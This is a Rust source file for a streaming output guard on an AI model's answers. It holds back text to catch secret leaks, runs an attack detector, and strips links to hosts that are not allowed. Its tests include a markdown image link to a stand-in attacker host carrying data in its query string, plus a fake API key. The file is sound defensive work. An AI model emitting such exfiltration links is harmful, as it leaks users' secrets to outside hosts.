//! A streamed answer, screened before it is let go.

use super::{Leak, Secrets, neutralise};
use crate::guard::Guard;
use crate::report::{Action, Report};
use clawdbot_domain::Channel;

/// The least that is held back, in bytes: an address that is just being written.
const LEAST_HELD: usize = 256;

/// The most that is held back. A reader waits for no more than this.
const MOST_HELD: usize = 4096;

/// How much of what was said is judged together with what comes, in bytes.
const WINDOW: usize = 2048;

/// How much must have come before the detector looks again.
const STRIDE: usize = 512;

/// What an answer is held against. Plain values; it knows no setting.
#[derive(Debug, Clone, Default)]
pub struct Outward {
    /// What must not go out.
    pub secrets: Secrets,
    /// The hosts that links and images may lead to; nothing is neutralised without a list.
    pub hosts: Option<Vec<String>>,
    /// Who judges what the model says.
    pub guard: Guard,
}

/// Why an answer was stopped.
#[derive(Debug, Clone, PartialEq)]
pub enum Stopped {
    /// It carries a secret.
    Leak(Leak),
    /// It reads like an attack.
    Finding(Box<Report>),
}

/// The part of a streamed answer that is not let go yet.
///
/// Chunks go in, text that was looked at comes out. No byte of a secret is let go: what is held is
/// longer than its longest spelling. After a stop nothing comes out any more.
#[derive(Debug, Clone)]
pub struct Holdback<'o> {
    outward: &'o Outward,
    held: String,
    /// The end of what was let go, as the model said it.
    said: String,
    unjudged: usize,
    removed: Vec<String>,
    stopped: Option<Stopped>,
}

impl<'o> Holdback<'o> {
    /// For one answer.
    pub fn new(outward: &'o Outward) -> Self {
        Self {
            outward,
            held: String::new(),
            said: String::new(),
            unjudged: 0,
            removed: Vec::new(),
            stopped: None,
        }
    }

    /// Takes what came and gives what may go. Fails from the first finding on.
    pub fn push(&mut self, chunk: &str) -> Result<String, Stopped> {
        self.held.push_str(chunk);
        self.unjudged += chunk.len();
        self.look(false)?;
        let Some(end) = self.cut() else {
            return Ok(String::new());
        };
        Ok(self.release(end))
    }

    /// The rest, when the answer has ended.
    pub fn finish(mut self) -> Result<(String, Vec<String>), Stopped> {
        self.look(true)?;
        let rest = self.release(self.held.len());
        Ok((rest, self.removed))
    }

    /// The hosts of addresses that were taken out so far.
    pub fn removed(&self) -> &[String] {
        &self.removed
    }

    fn look(&mut self, last: bool) -> Result<(), Stopped> {
        if let Some(stopped) = &self.stopped {
            return Err(stopped.clone());
        }
        let found = self.find(last);
        match found {
            Some(stopped) => {
                self.held.clear();
                self.stopped = Some(stopped.clone());
                Err(stopped)
            }
            None => Ok(()),
        }
    }

    fn find(&mut self, last: bool) -> Option<Stopped> {
        let window = format!("{}{}", self.said, self.held);
        if let Some(leak) = self.outward.secrets.find(&window) {
            return Some(Stopped::Leak(leak));
        }
        if !last && self.unjudged < STRIDE {
            return None;
        }
        self.unjudged = 0;
        let detection = self.outward.guard.find(&window, Channel::Model)?;
        let report = Report::new(Channel::Model, Action::Withheld, &window, &detection);
        Some(Stopped::Finding(Box::new(report)))
    }

    /// How much must stay.
    fn hold(&self) -> usize {
        // Twice, because a spelling may come with a separator after each letter.
        (self.outward.secrets.longest() * 2).clamp(LEAST_HELD, MOST_HELD)
    }

    /// Up to where the held text may go: not within the part that must stay, nor within a word,
    /// which may be an address.
    fn cut(&self) -> Option<usize> {
        let most = self.held.len().checked_sub(self.hold())?;
        let most = (0..=most)
            .rev()
            .find(|at| self.held.is_char_boundary(*at))?;
        let part = self.held.get(..most)?;
        let word = part.rfind(char::is_whitespace).map(|at| at + 1);
        match word {
            Some(end) if part.is_char_boundary(end) => Some(end),
            // A word longer than all that is held is no address to be clicked.
            _ => (self.held.len() > 2 * MOST_HELD).then_some(most),
        }
    }

    fn release(&mut self, end: usize) -> String {
        let rest = self.held.split_off(end.min(self.held.len()));
        let out = std::mem::replace(&mut self.held, rest);
        self.said.push_str(&out);
        let spare = self.said.len().saturating_sub(WINDOW);
        let from = (spare..self.said.len()).find(|at| self.said.is_char_boundary(*at));
        self.said.drain(..from.unwrap_or(spare));
        let Some(hosts) = &self.outward.hosts else {
            return out;
        };
        let neutral = neutralise(&out, hosts);
        self.removed.extend(neutral.removed);
        neutral.text
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const SECRET: &str = "sk-test-9fQ2x7Lk0ZtW";
    const PROSE: &str = "The committee met on Tuesday and talked about the bridge over the river. ";

    fn outward() -> Outward {
        Outward {
            secrets: Secrets::new([("provider", SECRET)]).unwrap(),
            hosts: Some(vec!["good.example".to_owned()]),
            guard: Guard::default(),
        }
    }

    /// What a reader got, and whether the answer was stopped.
    fn stream(outward: &Outward, text: &str, size: usize) -> (String, bool) {
        let mut holdback = Holdback::new(outward);
        let mut got = String::new();
        let chars: Vec<char> = text.chars().collect();
        for chunk in chars.chunks(size) {
            match holdback.push(&chunk.iter().collect::<String>()) {
                Ok(part) => got.push_str(&part),
                Err(_) => return (got, true),
            }
        }
        match holdback.finish() {
            Ok((rest, _)) => (got + &rest, false),
            Err(_) => (got, true),
        }
    }

    #[test]
    fn not_one_byte_of_a_secret_gets_out_however_it_is_cut() {
        let spaced: String = SECRET.chars().flat_map(|c| [c, ' ']).collect();
        let hexed = clawdbot_domain::hex(SECRET.as_bytes());
        for spelled in [SECRET, &spaced, &hexed] {
            let text = format!("{}{spelled} and so on. {PROSE}", PROSE.repeat(12));
            for size in [1, 7, 64, 5000] {
                let (got, stopped) = stream(&outward(), &text, size);
                assert!(stopped, "{spelled} {size}");
                assert!(PROSE.repeat(12).starts_with(&got), "{size} {got}");
            }
        }
    }

    #[test]
    fn an_address_is_taken_out_wherever_it_is_cut() {
        let link = "![x](https://evil.example/p?d=abc) ";
        let text = format!("{}{link}{}", PROSE.repeat(5), PROSE.repeat(9));
        for size in 1..60 {
            let (got, stopped) = stream(&outward(), &text, size);
            assert!(!stopped);
            assert!(
                got.contains("address removed") && !got.contains("d=abc"),
                "{size} {got}"
            );
        }
    }

    #[test]
    fn an_answer_without_findings_arrives_whole_and_is_not_held_to_its_end() {
        let text = PROSE.repeat(60);
        let outward = outward();
        let mut holdback = Holdback::new(&outward);
        let first = holdback.push(&text).unwrap();
        assert!(first.len() + MOST_HELD > text.len() && !first.is_empty());
        assert_eq!(first + &holdback.finish().unwrap().0, text);
    }

    #[test]
    fn after_a_stop_nothing_comes_out() {
        let outward = outward();
        let mut holdback = Holdback::new(&outward);
        assert!(holdback.push(SECRET).is_err());
        assert!(holdback.push(&PROSE.repeat(99)).is_err());
        assert!(holdback.finish().is_err());
    }

    #[test]
    fn memory_is_bounded_for_an_answer_that_is_one_word() {
        let outward = outward();
        let mut holdback = Holdback::new(&outward);
        for _ in 0..200 {
            holdback.push(&"x".repeat(500)).unwrap();
            assert!(holdback.held.len() <= 3 * MOST_HELD);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn cutting_changes_nothing(text in "[a-z é\\n]{0,900}", size in 1usize..200) {
            let (got, stopped) = stream(&outward(), &text, size);
            prop_assert!(stopped || got == text);
        }
    }
}
